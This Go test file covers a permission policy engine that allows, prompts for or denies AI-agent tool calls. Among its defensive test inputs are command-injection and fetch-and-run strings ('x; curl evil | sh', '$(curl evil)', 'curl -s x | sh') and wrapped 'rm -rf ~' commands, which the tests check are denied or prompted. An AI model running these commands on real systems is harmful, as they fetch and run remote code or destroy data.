package policy

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/askperm/askperm/decision"
)

func parse(t testing.TB, text string) *Policy {
	t.Helper()
	p, err := Parse("rules.toml", []byte(text))
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func req(t testing.TB, raw string) *decision.Request {
	t.Helper()
	r, err := decision.Parse([]byte(raw))
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// names lists the opinions as "name:verdict".
func names(ops []Opinion) string {
	var s []string
	for _, o := range ops {
		s = append(s, o.Name+":"+o.Verdict.String())
	}
	return strings.Join(s, " ")
}

func TestPredicateOperations(t *testing.T) {
	args := `{"action":"exec","tool":"shell","arguments":{"argv":["git","push","-f","origin"],"n":5,"flag":true,"none":null,
		"obj":{"a":[1,2]},"k.x":"dot","s":"hello world"}}`
	for _, tc := range []struct {
		when string
		want bool
	}{
		{`path = "$.n"` + "\nequals = 5", true},
		{`path = "$.n"` + "\nequals = 5.0", true},
		{`path = "$.n"` + "\nequals = \"5\"", false},
		{`path = "$.flag"` + "\nequals = true", true},
		{`path = "$.obj"` + "\nequals = { a = [1, 2.0] }", true},
		{`path = "$.obj"` + "\nequals = { a = [1] }", false},
		{`path = "$.obj.a[1]"` + "\nequals = 2", true},
		{`path = "$['k.x']"` + "\nequals = \"dot\"", true},
		{`path = "$.argv[0]"` + "\nin = [\"hg\", \"git\"]", true},
		{`path = "$.argv[0]"` + "\nin = [\"hg\", \"svn\"]", false},
		{`path = "$.s"` + "\nregex = \"wor\"", true},
		{`path = "$.s"` + "\nregex = \"^wor\"", false},
		{`path = "$.n"` + "\nregex = \"5\"", false},
		{`path = "$.none"` + "\nexists = true", true},
		{`path = "$.missing"` + "\nexists = true", false},
		{`path = "$.missing"` + "\nexists = false", true},
		{`path = "$.missing"` + "\nequals = 1", false},
		{`path = "$.argv"` + "\nprefix = [\"git\", \"push\", [\"-f\", \"--force\"]]", true},
		{`path = "$.argv"` + "\nprefix = [\"git\", \"push\", [\"--force\"]]", false},
		{`path = "$.argv"` + "\nprefix = [\"git\", \"push\", \"-f\", \"origin\", \"main\"]", false},
		{`path = "$.s"` + "\nprefix = [\"hello\"]", false},
	} {
		p := parse(t, "[[rule]]\n[[rule.when]]\n"+tc.when+"\n")
		if got := len(p.Opinions(req(t, args))) == 1; got != tc.want {
			t.Errorf("%q: matches %v, want %v", tc.when, got, tc.want)
		}
	}
	// Without arguments, only exists = false holds.
	for when, want := range map[string]bool{"exists = false": true, "exists = true": false, "equals = 1": false} {
		p := parse(t, "[[rule]]\n[[rule.when]]\npath = \"$.a\"\n"+when+"\n")
		if got := len(p.Opinions(req(t, `{"action":"x"}`))) == 1; got != want {
			t.Errorf("no arguments, %s: %v", when, got)
		}
	}
}

func TestMatchers(t *testing.T) {
	p := parse(t, `
[[rule]]
name = "tests"
tool = "shell"
server = "dev-*"
action = "exec"
dimensions = { command = "go test *" }
`)
	base := `{"tool":"shell","server":"dev-1","action":"exec","dimensions":[{"name":"command","value":"go test ./..."}]}`
	for _, tc := range []struct {
		name string
		raw  string
		want bool
	}{
		{"all match", base, true},
		{"other server", strings.Replace(base, "dev-1", "prod-1", 1), false},
		{"no server", strings.Replace(base, `"server":"dev-1",`, "", 1), false},
		{"other tool", strings.Replace(base, `"shell"`, `"bash"`, 1), false},
		{"shell syntax behind the wildcard", strings.Replace(base, "./...", "x; curl evil | sh", 1), false},
		{"command substitution", strings.Replace(base, "./...", "$(curl evil)", 1), false},
		{"no such dimension", strings.Replace(base, `"command"`, `"cmd"`, 1), false},
	} {
		if got := len(p.Opinions(req(t, tc.raw))) == 1; got != tc.want {
			t.Errorf("%s: matches %v, want %v", tc.name, got, tc.want)
		}
	}
}

func TestVerbPolicy(t *testing.T) {
	p := parse(t, `
[verbs]
bulk_limit = 2
[verbs.roles]
intern = []
contractor = ["update"]
`)
	for _, tc := range []struct {
		raw  string
		want string
	}{
		{`{"action":"x","tool":"delete_file"}`, "verbs.always_require:prompt"},
		{`{"action":"x","tool":"cancel_order"}`, "verbs.always_require:prompt"},
		{`{"action":"x","tool":"read_file","arguments":{"ids":[1,2,3]}}`, "verbs.bulk_limit:prompt"},
		{`{"action":"x","tool":"read_file","arguments":{"ids":[1,2]}}`, "verbs.auto:allow"},
		{`{"action":"x","tool":"read_file","role":"intern"}`, "verbs.roles.intern:prompt"},
		{`{"action":"x","tool":"update_row","role":"contractor"}`, "verbs.roles.contractor:prompt"},
		{`{"action":"x","tool":"read_row","role":"contractor"}`, "verbs.auto:allow"},
		{`{"action":"x","tool":"create_employee"}`, "verbs.require:prompt"},
		{`{"action":"x","tool":"get_employee"}`, "verbs.auto:allow"},
		{`{"action":"x","tool":"list"}`, "verbs.auto:allow"},
		{`{"action":"x","tool":"execute_action_flow","arguments":{"action":"Submit"}}`, "verbs.require:prompt"},
		{`{"action":"search"}`, "verbs.auto:allow"},
		{`{"action":"x","tool":"frobnicate_it"}`, ""},
	} {
		if got := names(p.Opinions(req(t, tc.raw))); got != tc.want {
			t.Errorf("%s: %q, want %q", tc.raw, got, tc.want)
		}
	}
	// No configuration can keep delete_* tools from asking.
	q := parse(t, "[verbs]\nalways_require = []\nauto = [\"delete\"]\n")
	if got := names(q.Opinions(req(t, `{"action":"x","tool":"delete_all"}`))); got != "verbs.always_require:prompt" {
		t.Errorf("delete_* with an emptied list: %q", got)
	}
	a := parse(t, "[verbs]\nallowlist = [\"read_file\"]\n")
	if got := names(a.Opinions(req(t, `{"action":"x","tool":"write_file"}`))); got != "verbs.allowlist:deny" {
		t.Errorf("allowlist: %q", got)
	}
}

func TestAnnotationModes(t *testing.T) {
	tool := func(hints string) string { return `{"action":"x","tool":"t","annotations":{` + hints + `}}` }
	for _, tc := range []struct {
		mode, hints, want string
		noSession         bool
	}{
		{"auto", `"destructiveHint":true,"readOnlyHint":true`, "prompt", false},
		{"auto", `"readOnlyHint":true,"openWorldHint":false`, "allow", false},
		{"auto", `"readOnlyHint":true`, "prompt", false}, // MCP's default: it may reach the open world
		{"auto", ``, "prompt", false},
		{"prompt", `"readOnlyHint":true,"openWorldHint":false`, "prompt", true},
		{"writes", `"readOnlyHint":true,"openWorldHint":false`, "allow", false},
		{"writes", `"readOnlyHint":true`, "prompt", true},
		{"writes", `"readOnlyHint":false`, "prompt", true},
		{"approve", `"destructiveHint":true`, "allow", false},
	} {
		p := parse(t, "[[annotations]]\ntool = \"other\"\nmode = \"approve\"\n[[annotations]]\ntool = \"t*\"\nmode = \""+tc.mode+"\"\n")
		ops := p.Opinions(req(t, tool(tc.hints)))
		if len(ops) != 1 || ops[0].Verdict.String() != tc.want || ops[0].NoSession != tc.noSession {
			t.Errorf("%s %s: %+v", tc.mode, tc.hints, ops)
		}
	}
}

func TestStrictestWinsAcrossRules(t *testing.T) {
	p := parse(t, `
[[rule]]
name = "reads"
action = "read"
[[rule]]
name = "secrets"
decision = "deny"
message = "not the secrets"
dimensions = { path = "/etc/**" }
[[rule]]
name = "ask-etc"
decision = "prompt"
dimensions = { path = "/etc/*" }
[verbs]
`)
	r := req(t, `{"action":"read","tool":"delete_x","dimensions":[{"name":"path","value":"/etc/shadow"}]}`)
	ops := p.Opinions(r)
	v, winners := Combine(ops)
	if v != Deny || winners[0].Message != "not the secrets" || names(ops) != "reads:allow secrets:deny ask-etc:prompt verbs.always_require:prompt" {
		t.Errorf("%v %+v from %s", v, winners, names(ops))
	}
	// delete_* is never allowed by a rule: the verb policy prompts.
	v, _ = Combine(parse(t, "[[rule]]\ntool = \"delete_*\"\n[verbs]\n").Opinions(req(t, `{"action":"x","tool":"delete_x"}`)))
	if v != Prompt {
		t.Errorf("delete_* allowed by a rule: %v", v)
	}
}

// Every mistake in a rules file is refused at load, naming the file, the
// rule and the problem.
func TestLoadErrors(t *testing.T) {
	for _, tc := range []struct{ text, want string }{
		{"[[rule]]\ncolour = \"red\"\n", `rules.toml: unknown key "rule.colour" (valid here: name, decision, message, justification, tool, server, source, action, dimensions, when, match, not_match, match_all, only_dimensions)`},
		{"[[rule]]\ndecision = \"maybe\"\n", `rules.toml: rule "rules.toml#1": decision: "maybe" is none of allow, prompt, deny`},
		{"[[rule]]\nname = \"x\"\ntool = \"a[\"\n", `rule "x": tool: `},
		{"[[rule]]\ndimensions = { p = \"{a\" }\n", `dimensions.p: `},
		{"[[rule]]\n[[rule.when]]\npath = \"$.a\"\n", "when 1: no operation"},
		{"[[rule]]\n[[rule.when]]\npath = \"$.a\"\nequals = 1\nexists = true\n", "when 1: two operations (equals, exists)"},
		{"[[rule]]\n[[rule.when]]\npath = \"$..a\"\nexists = true\n", "not a singular path"},
		{"[[rule]]\n[[rule.when]]\npath = \"$[*]\"\nexists = true\n", "not a singular path"},
		{"[[rule]]\n[[rule.when]]\npath = \"a.b\"\nexists = true\n", `path "a.b"`},
		{"[[rule]]\n[[rule.when]]\nexists = true\n", "path: missing"},
		{"[[rule]]\n[[rule.when]]\npath = \"$.a\"\nregex = \"(\"\n", "regex: "},
		{"[[rule]]\n[[rule.when]]\npath = \"$.a\"\nequals = 1979-05-27\n", "dates and times are not JSON values"},
		{"[[rule]]\ntool = \"shell\"\n[[rule.match]]\ntool = \"bash\"\naction = \"x\"\n", "match 1: the rule does not match its own example"},
		{"[[rule]]\ntool = \"shell\"\n[[rule.not_match]]\ntool = \"shell\"\naction = \"x\"\n", "not_match 1: the rule matches its own example"},
		{"[[rule]]\nmatch_all = true\n[[rule.match]]\ntool = \"shell\"\n", "match 1: request: "},
		{"[verbs]\nbulk_limit = -1\n", "verbs: bulk_limit: -1 is negative"},
		{"[verbs]\nrequire = \"create\"\n", "rules.toml: "},
		{"[[annotations]]\ntool = \"*\"\nmode = \"sometimes\"\n", `annotations 1: mode: "sometimes"`},
		{"[[annotations]]\nmode = \"auto\"\n", "annotations 1: tool: missing"},
	} {
		if _, err := Parse("rules.toml", []byte(tc.text)); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%q: got %v, want %q", tc.text, err, tc.want)
		}
	}
}

func TestLoad(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string, mode os.FileMode) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		os.Chmod(p, mode)
		return p
	}
	a := write("a.toml", "[[rule]]\nname = \"a\"\nmatch_all = true\n[verbs]\n", 0o600)
	b := write("b.toml", "[[rule]]\nname = \"b\"\nmatch_all = true\ndecision = \"deny\"\n", 0o600)
	p, err := Load(filepath.Join(dir, "missing-user-file.toml"), []string{a, b}, "")
	if err != nil {
		t.Fatal(err)
	}
	if got := names(p.Opinions(req(t, `{"action":"x","tool":"read_x"}`))); got != "a:allow b:deny verbs.auto:allow" {
		t.Errorf("load order: %q", got)
	}
	if _, err := Load("", []string{a, write("c.toml", "[verbs]\n", 0o600)}, ""); err == nil || !strings.Contains(err.Error(), "[verbs] is set already by "+a) {
		t.Errorf("two [verbs]: %v", err)
	}
	if _, err := Load("", []string{write("w.toml", "", 0o666)}, ""); err == nil || !strings.Contains(err.Error(), "writable") {
		t.Errorf("world-writable: %v", err)
	}
	if _, err := Load("", []string{filepath.Join(dir, "none.toml")}, ""); err == nil {
		t.Error("a missing named file was accepted")
	}
	user := write("user.toml", "[[rule]]\nname = \"u\"\nmatch_all = true\n", 0o600)
	if p, err := Load(user, nil, ""); err != nil || names(p.Opinions(req(t, `{"action":"x"}`))) != "u:allow" {
		t.Errorf("user file: %v", err)
	}
}

// A name splits into words at separators and case changes; an
// execute_action tool's action is read by its exact key.
func TestWords(t *testing.T) {
	for raw, want := range map[string]string{
		`{"action":"Write"}`:                                                              "write |",
		`{"action":"x","tool":"Create_Employee"}`:                                         "create employee |",
		`{"action":"x","tool":"get"}`:                                                     "read |",
		`{"action":"x","tool":"deleteRecords"}`:                                           "delete records |",
		`{"action":"x","tool":"delete-records"}`:                                          "delete records |",
		`{"action":"x","tool":"DeleteRecords"}`:                                           "delete records |",
		`{"action":"x","tool":"HTTPDelete.v2 all"}`:                                       "http delete v 2 all |",
		`{"action":"x","tool":"read2delete"}`:                                             "read 2 delete |",
		`{"action":"x","tool":"execute_action_x","arguments":{"action":"Approve"}}`:       "execute action x | approve",
		`{"action":"x","tool":"execute_action_x"}`:                                        "execute action x |",
		`{"action":"x","tool":"execute_action_x","arguments":{"action":"readAndDelete"}}`: "execute action x | read and delete",
	} {
		tool, action := Words(req(t, raw))
		if got := strings.TrimSpace(strings.Join(tool, " ") + " | " + strings.Join(action, " ")); got != want {
			t.Errorf("%s: %q, want %q", raw, got, want)
		}
	}
}

// A deny errs wide over shell syntax (finding 3): with a deny of rm -rf *
// and an allow of every Bash command, a wrapped rm -rf is denied, and a
// command whose name is computed is asked (the deny's maybe is a
// question, which the allow cannot overrule), never allowed.
func TestDenyOverShellSyntax(t *testing.T) {
	p := parse(t, `
[[rule]]
name = "no-rm"
decision = "deny"
tool = "Bash"
dimensions = { command = "rm -rf *" }
[[rule]]
name = "bash"
tool = "Bash"
`)
	for cmd, want := range map[string]Verdict{
		`sudo rm -rf ~`: Deny, `xargs rm -rf`: Deny, `{rm,-rf,~}`: Deny, `bash -c 'rm -rf ~'`: Deny, `nice -n 5 rm -rf ~`: Deny,
		`$(echo rm) -rf ~`: Prompt, `eval "$x"`: Prompt, `curl -s x | sh`: Prompt,
		`git commit -m "rm -rf stuff"`: Allow, `ls -la`: Allow,
	} {
		raw, _ := json.Marshal(cmd)
		ops := p.Opinions(req(t, `{"action":"exec","tool":"Bash","dimensions":[{"name":"command","value":`+string(raw)+`}]}`))
		if v, _ := Combine(ops); v != want {
			t.Errorf("%s: %v, want %v (%s)", cmd, v, want, names(ops))
		}
	}
}

// only_dimensions: an allow covers no request with a dimension the rule
// does not name; a deny with it still covers the most. Property: over
// generated extra dimensions, any one added makes the allow abstain.
func TestOnlyDimensions(t *testing.T) {
	p := parse(t, `
[[rule]]
name = "edit-src"
server = "fs"
tool = "edit"
only_dimensions = true
dimensions = { path = "/p/src/*" }
[[rule.match]]
server = "fs"
tool = "edit"
action = "write"
dimensions = [ { name = "path", value = "/p/src/a.go" } ]
[[rule.not_match]]
server = "fs"
tool = "edit"
action = "write"
dimensions = [ { name = "path", value = "/p/src/a.go" }, { name = "other arguments", value = "{\"mode\":\"truncate\"}" } ]

[[rule]]
name = "no-etc"
decision = "deny"
tool = "edit"
only_dimensions = true
dimensions = { path = "/etc/*" }
`)
	opinion := func(raw string) string { return names(p.Opinions(req(t, raw))) }
	if got := opinion(`{"server":"fs","tool":"edit","action":"write","dimensions":[{"name":"path","value":"/p/src/a.go"}]}`); got != "edit-src:allow" {
		t.Errorf("the rule's own dimensions: %q", got)
	}
	for _, extra := range []string{"other arguments", "content", "mode", "path'", "Path", "arguments"} {
		raw := `{"server":"fs","tool":"edit","action":"write","dimensions":[{"name":"path","value":"/p/src/a.go"},{"name":"` + extra + `","value":"x"}]}`
		if got := opinion(raw); got != "" {
			t.Errorf("with %q: %q", extra, got)
		}
	}
	if got := opinion(`{"tool":"edit","action":"write","dimensions":[{"name":"path","value":"/etc/passwd"},{"name":"mode","value":"x"}]}`); got != "no-etc:deny" {
		t.Errorf("a deny with only_dimensions: %q", got)
	}
	if _, err := Parse("rules.toml", []byte("[[rule]]\ntool = \"x\"\nonly_dimensions = true\ndimensions = { path = \"/p/*\" }\n[[rule.match]]\ntool = \"x\"\naction = \"read\"\ndimensions = [ { name = \"path\", value = \"/p/a\" }, { name = \"mode\", value = \"w\" } ]\n")); err == nil {
		t.Error("a match example with an extra dimension loaded")
	}
}
